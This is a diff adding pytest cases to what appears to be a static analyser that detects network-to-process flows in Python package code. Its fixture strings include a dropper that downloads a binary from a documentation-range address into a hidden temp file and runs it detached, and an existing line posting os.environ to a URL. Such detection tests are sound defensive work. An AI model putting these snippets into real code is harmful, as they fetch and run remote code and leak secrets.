@@ -114,3 +114,34 @@ def test_a_flow_pass_past_its_budget_marks_the_analysis_cut(
     text = "import os, requests\n" + "x = 1 + 2\n" * 20 + "requests.post('u', data=os.environ)\n"
     a = analyse(Script("pkg/c.py", ScriptKind.MODULE, text))
     assert a.truncated
+
+
+@pytest.mark.parametrize(
+    "fetch",
+    [
+        "urllib.request.urlretrieve('http://198.51.100.20/s.bin', target)\n",
+        "urllib.request.urlretrieve('http://198.51.100.20/s.bin', filename=target)\n",
+        "open(target, 'wb').write(urllib.request.urlopen('http://198.51.100.20/s').read())\n",
+        "with open(target, 'wb') as fh:\n"
+        "        fh.write(urllib.request.urlopen('http://198.51.100.20/s').read())\n",
+    ],
+)
+def test_a_downloaded_file_that_is_run_is_network_to_process(fetch: str) -> None:
+    text = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "def _run():\n"
+        "    target = os.path.join(tempfile.gettempdir(), '.update')\n"
+        f"    {fetch}"
+        "    subprocess.Popen([target], start_new_session=True)\n"
+    )
+    assert ("network", "process") in _flows(text)
+
+
+def test_a_downloaded_file_that_is_only_read_is_not_run() -> None:
+    text = (
+        "import json, subprocess, urllib.request\n"
+        "urllib.request.urlretrieve('https://example.com/data.json', 'data.json')\n"
+        "CONFIG = json.load(open('data.json'))\n"
+        "subprocess.run(['git', 'rev-parse', 'HEAD'])\n"
+    )
+    assert ("network", "process") not in _flows(text)
